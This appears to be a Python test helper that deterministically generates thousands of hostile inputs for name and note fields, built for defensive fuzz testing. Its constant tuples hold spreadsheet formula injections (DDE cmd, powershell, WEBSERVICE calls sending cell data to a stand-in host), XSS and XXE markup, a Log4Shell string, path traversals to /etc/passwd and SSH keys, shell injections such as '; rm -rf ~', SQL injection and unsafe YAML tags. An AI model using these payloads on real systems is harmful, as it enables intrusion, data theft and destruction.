"""Texts that somebody hostile puts where a name or a note is expected; the same for one seed.

`BAIT` in a text stands for the path of a file that nobody may open.
"""

from __future__ import annotations

from collections.abc import Callable
from random import Random

COUNT = 5_000
LONGEST = 120_000  # a cell of more than 131,072 makes a list none: it is refused
BAIT = "%BAIT%"
# .invalid is looked up nowhere; a connection is tried all the same and meets the guard.
HOST = "tracker.invalid"
_FORMULA_STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\u2212")
_FORMULAS = (
    "cmd|' /C calc'!A0",
    f'HYPERLINK("http://{HOST}/?"&A1,"open")',
    f'WEBSERVICE("http://{HOST}/"&B2)',
    f'IMPORTXML(CONCAT("http://{HOST}/",A1),"//a")',
    "1+1",
    "SUM(A1:A9)*cmd|'/c powershell'!A1",
    'DDE("cmd","/C calc","x")',
    f"'file://{BAIT}'#$Sheet1.A1",
)
_URLS = (
    f"http://{HOST}/pixel.png",
    f"https://{HOST}/a.svg",
    f"file://{BAIT}",
    BAIT,
    f"\\\\{HOST}\\share\\a.png",
    f"//{HOST}/a.png",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox",
    f"ftp://{HOST}/a",
    f"jar:file://{BAIT}!/a",
)
_MARKUP = (
    '<img src="{}">',
    "<img src='{}' onerror=alert(1)>",
    '"><img src={}>',
    '<b>x</b><table background="{}"><tr><td>y</td></tr></table>',
    '<a href="{}">click</a>',
    '<link rel=stylesheet href="{}">',
    '<style>@import url("{}");</style>',
    '<body style="background:url({})">',
    '<object data="{}"></object>',
    '<iframe src="{}"></iframe>',
    '<svg><image xlink:href="{}"/></svg>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "{}">]><x>&e;</x>',
    "]]><script src={}></script>",
    "![alt]({})",
    "{}",
)
_CONTROLS = "".join(map(chr, (*range(1, 32), 127, *range(0x80, 0xA0))))
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u3164\ufff9\ufffb\ufffc\uffff"
_PATHS = (
    "../" * 12 + "etc/passwd",
    "..\\" * 12 + "windows\\system32\\drivers\\etc\\hosts",
    "/etc/hostname",
    "C:\\boot.ini",
    "CON",
    "NUL.txt",
    "a/b/c",
    "..",
    ".",
    "~/.ssh/id_rsa",
    "%2e%2e%2fetc%2fpasswd",
    "name.csv\0.exe",
    "x" * 300,
    ". . .",
    "profile.db",
    "|id",
    "$(id)",
    "`id`",
    "; rm -rf ~",
    "-rf",
    "--profile=/tmp",
)
_TEMPLATES = (
    "{0.__class__.__mro__}",
    "{name}",
    "{",
    "}",
    "{{7*7}}",
    "${jndi:ldap://" + HOST + "/a}",
    "%s%s%n",
    "%(x)s",
    "<%= 7*7 %>",
    "#{7*7}",
    "__import__('os').system('id')",
    "'; DROP TABLE lead; --",
    '" OR ""="',
    "NEAR(a b, 2) AND company:*",
    "-* \"'",
    "\\",
    "&amp;lt;b&amp;gt;",
    "_x0041_",
    "_x000D_",
    "&#x202e;",
    "&Alt &Menu",
)
_YAML = (
    "!!python/object/apply:os.system ['id']",
    "!include " + BAIT,
    "&a [*a]",
    "<<: *x",
    "---\n...\n%YAML 9.9\n",
    "? - {a: [",
    "key: |\n  x\n y",
    "!!binary aGVsbG8=",
    "*undefined",
    "@`",
    "'",
    "- - - -",
    "2026-13-45",
    ".inf",
    "~",
    "0x7fffffffffffffff",
    "1e999999",
)
_WORDS = "Claire notes the oven halle 4 devis À Ö ß 漢字 عربي עברית 👩‍👩‍👧 ﷽".split()


def texts(seed: str, count: int = COUNT) -> list[str]:
    """`count` texts of all kinds in turn."""
    random = Random(f"hostile/{seed}")
    return [_text(random, _KINDS[number % len(_KINDS)]) for number in range(count)]


def sample(seed: str, count: int) -> list[str]:
    """`count` of `texts`, of all kinds in turn."""
    whole = texts(seed)
    step = len(whole) // count
    if step and step % len(_KINDS) == 0:
        step -= 1
    return whole[:: step or 1][:count]


def baited(text: str, bait: str) -> str:
    """`text` with the path of the file that nobody may open."""
    return text.replace(BAIT, bait)


def _text(random: Random, kind: Callable[[Random], str]) -> str:
    text = kind(random)
    if random.random() < 0.3:
        text = random.choice((" ", "", "\n", "'", '"', ";", "\u00a0")) + text
    if random.random() < 0.3:
        text += random.choice((" ", "\n", "", "\t")) + random.choice(_KINDS)(random)
    return text[:LONGEST]


def _markup(random: Random) -> str:
    return random.choice(_MARKUP).replace("{}", random.choice(_URLS))


def _formula(random: Random) -> str:
    return random.choice(_FORMULA_STARTS) + random.choice(_FORMULAS)


def _hidden(random: Random) -> str:
    """A word with characters in it that show nothing, or turn what follows around."""
    signs = random.choice((_CONTROLS, _BIDI, _ZERO_WIDTH, _CONTROLS + _BIDI + _ZERO_WIDTH))
    word = random.choice(_WORDS)
    return "".join(one + "".join(random.choices(signs, k=random.randrange(3))) for one in word)


def _long(random: Random) -> str:
    unit = random.choice(("W", "🧨", "mot ", "l\n", "﷽", "<", "-", "e\u0301\u0323\u0330", "( "))
    return unit * random.choice((200, 200, 200, 2_000, 2_000, 20_000))


def _nested(random: Random) -> str:
    opening, closing = random.choice((("[", "]"), ('{"a":', "}"), ("<div>", "</div>"), ("(", ")")))
    deep = random.choice((30, 30, 30, 300, 300, 3_000))
    return opening * deep + random.choice(("", "1")) + closing * deep


def _broken(random: Random) -> str:
    """Half a pair of UTF-16, as careless programs leave it."""
    half = chr(random.randrange(0xD800, 0xE000))
    return random.choice((half, f"a{half}b", half * 50, f"={half}1", f"\udcff{half}"))


def _one_of(choices: tuple[str, ...]) -> Callable[[Random], str]:
    return lambda random: random.choice(choices)


_KINDS: tuple[Callable[[Random], str], ...] = (
    _markup,
    _formula,
    _hidden,
    _long,
    _nested,
    _broken,
    _one_of(_PATHS),
    _one_of(_TEMPLATES),
    _one_of(_YAML),
)
